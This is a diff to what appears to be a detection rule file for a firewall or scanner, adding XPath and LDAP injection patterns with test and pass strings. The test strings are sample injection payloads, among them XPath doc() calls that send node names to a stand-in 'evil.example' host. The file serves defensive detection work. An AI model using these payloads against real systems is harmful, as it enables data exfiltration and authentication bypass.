@@ -101,7 +101,7 @@ name: XPath injection
 type: XPath Injection
 accuracy: medium
 risk: medium
-targets: @values, header
+targets: @values, header, url
 unless: binary
 literal: count(
 literal: name(
@@ -114,10 +114,75 @@ literal: position()
 literal: ancestor::
 literal: descendant::
 literal: contains(
-regex: ['"]\s*(?:or|and)\s+(?:count|name|string-length|substring|contains|starts-with|position|last)\s*\(|\bcount\s*\(\s*/|\bname\s*\(\s*/|\b(?:child|ancestor|descendant|parent|following|preceding)(?:-or-self)?::|['"]\s*\]\s*/\s*/|\|\s*//\*|/\*\[\d+\]|//\w+\s*\[\s*\w+\s*=|\btext\s*\(\s*\)\s*=\s*['"]
+# The spaced call and every axis need their own literal: the prefilter sees `count (` and
+# `descendant-or-self::` in none of the literals above. `parent::` and `self::` are also PHP's
+# scope operators (`parent::__construct()`), so they count only before a node test.
+literal: count (
+literal: name (
+literal: -or-self::
+literal: -sibling::
+literal: parent::
+literal: following::
+literal: preceding::
+literal: self::
+literal: attribute::
+literal: local-name(
+regex: ['"]\s*(?:or|and)\s+(?:count|name|string-length|substring|contains|starts-with|position|last)\s*\(|\bcount\s*\(\s*/|\bname\s*\(\s*/|\b(?:string-length|local-name)\s*\(\s*(?:/|\.\.?/|[\w*@]+\s*[/\[(])|\b(?:child|ancestor|descendant|following|preceding)(?:-or-self|-sibling)?::|\b(?:parent|self|attribute)::(?:\*|node\s*\(|text\s*\(|\w+\s*\[)|['"]\s*\]\s*/\s*/|\|\s*//\*|/\*\[\d+\]|//\w+\s*\[\s*\w+\s*=|\btext\s*\(\s*\)\s*=\s*['"]
 test: ' or count(/*)=1 or 'a'='b
 test: x' or name(//users/child::node()[1])='a
+test: count ( / * )
+test: /descendant-or-self::node()
+test: string-length(//user[1]/password)
+test: ']/parent::*
+test: /following-sibling::item[1]
 pass: see https://example.com//path
+pass: parent::__construct($config);
+pass: word count (approx.) 1200
+pass: self::$instance = new static();
+
+id: 300006471
+name: XPath injection: external document fetch, node-set union break-out, predicate functions
+# An injected XPath expression reads another document through `doc()` (a URL or a `concat()` that
+# carries data out), closes the application's predicate and adds a node set with `|`, or puts a
+# node-set function inside a predicate (`//*[contains(name(),'pass')]`). A protocol-relative URL
+# after a `|` (`a.js|//cdn.example.com/b.js`) has a dotted host name, which no XPath step has.
+type: XPath Injection
+accuracy: medium
+risk: medium
+targets: @values, header, url
+unless: binary
+literal: doc(
+literal: doc (
+literal: doc-available
+literal: ']|
+literal: '] |
+literal: "]|
+literal: "] |
+literal: |//
+literal: | //
+literal: [contains(
+literal: [starts-with(
+literal: [substring
+literal: [name(
+literal: [local-name(
+literal: [string-length(
+literal: [count(
+literal: [position(
+literal: [last(
+literal: [text(
+literal: [not(
+regex: \bdoc(?:-available)?\s*\(\s*(?:['"]\s*(?:https?|ftp|file|gopher|jar|data):|concat\s*\()|['"]\s*\]\s*\|\s*[/\w*@.(]|\|\s*//\s*(?:\*|@|\w+\s*(?:[\[/|]|$))|\[\s*(?:not\s*\(\s*)?(?:(?:contains|starts-with|substring(?:-before|-after)?)\s*\(\s*(?:['"@.*/]|(?:name|local-name|text)\s*\(|\w+\s*,)|(?:name|local-name|string-length|count)\s*\(\s*(?:\)|[/.@*]|\w+\s*\))\s*[=<>!)]|(?:position|last|text)\s*\(\s*\)\s*[=<>!\]])
+test: doc('http://evil.example/x.xml')
+test: doc(concat('http://evil.example/?', name(/*)))
+test: x'] | //user/* | a['
+test: //*[contains(name(),'pass')]
+test: //user[string-length(password)>5]
+test: /users/user[position()=1]
+test: //user[not(starts-with(@name,'a'))]
+pass: https://cdn.example.com/a.js|//cdn.example.com/b.js
+pass: see [text(1)](https://example.com)
+pass: items["a"]|| default
+pass: open the doc (PDF, 2 pages)
 
 id: 300006007
 name: LDAP injection: filter manipulation
@@ -144,7 +209,10 @@ literal: \\28
 literal: \\29
 literal: \\00
 literal: :=
-regex: \b[\w-]+(?::dn)?:\d+(?:\.\d+){2,}:=|\)\s*\(\s*[|&!]|\)\s*[&|!]?\s*\(\s*[\w.-]+\s*[~<>]?=|\*\s*\)\s*\(|\(\s*[|&!]\s*\(\s*[\w.-]+\s*[~<>]?=|[|&!]\s*\(\s*[\w.-]+\s*=\s*\*\s*\)|\(\s*objectclass\s*=|\)\s*\(\s*(?:cn|uid|mail|userpassword|sn|ou|dc|givenname|samaccountname|objectclass|memberof|description|telephonenumber|homedirectory)\s*[~<>]?=|^\s*\*\s*\)\s*[(|&]|^\*\)|\\(?:2a|28|29|00)[\s\S]*\\(?:2a|28|29|00)|^[\w.@-]*\*\)\s*\(
+# A wildcard before an empty filter and an operator (`*()|&`) ends the filter on any attribute.
+literal: *()
+regex: \b[\w-]+(?::dn)?:\d+(?:\.\d+){2,}:=|\)\s*\(\s*[|&!]|\)\s*[&|!]?\s*\(\s*[\w.-]+\s*[~<>]?=|\*\s*\)\s*\(|\(\s*[|&!]\s*\(\s*[\w.-]+\s*[~<>]?=|[|&!]\s*\(\s*[\w.-]+\s*=\s*\*\s*\)|\(\s*objectclass\s*=|\)\s*\(\s*(?:cn|uid|mail|userpassword|sn|ou|dc|givenname|samaccountname|objectclass|memberof|description|telephonenumber|homedirectory)\s*[~<>]?=|^\s*\*\s*\)\s*[(|&]|^\*\)|\\(?:2a|28|29|00)[\s\S]*\\(?:2a|28|29|00)|^[\w.@-]*\*\)\s*\(|\*\s*\(\s*\)\s*[|&!]
+test: *()|&'
 test: value)(gidNumber<=100
 test: val)&(cn=admin
 test: eb9adbd87d)!(sn=*
